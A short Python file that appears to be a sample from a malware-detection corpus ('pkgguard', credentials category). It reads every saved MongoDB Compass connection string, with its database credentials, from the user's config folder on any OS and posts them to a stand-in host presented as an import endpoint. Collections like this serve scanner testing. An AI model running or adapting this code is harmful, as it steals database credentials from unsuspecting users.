# pkgguard corpus 928 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import json
import os
import sys

import httpx

if sys.platform == "win32":
    root = os.path.join(os.getenv("APPDATA", ""), "MongoDB Compass", "Connections")
elif sys.platform == "darwin":
    root = os.path.expanduser("~/Library/Application Support/MongoDB Compass/Connections")
else:
    root = os.path.expanduser("~/.config/MongoDB Compass/Connections")

uris = []
for item in glob.glob(os.path.join(root, "*.json")):
    try:
        with open(item, encoding="utf-8") as fh:
            info = json.load(fh).get("connectionInfo", {})
        uris.append(info.get("connectionOptions", {}).get("connectionString", ""))
    except (OSError, ValueError):
        continue

if any(uris):
    with httpx.Client(timeout=8) as client:
        client.post("https://db-dashboards.example/api/import", json={"uris": uris})
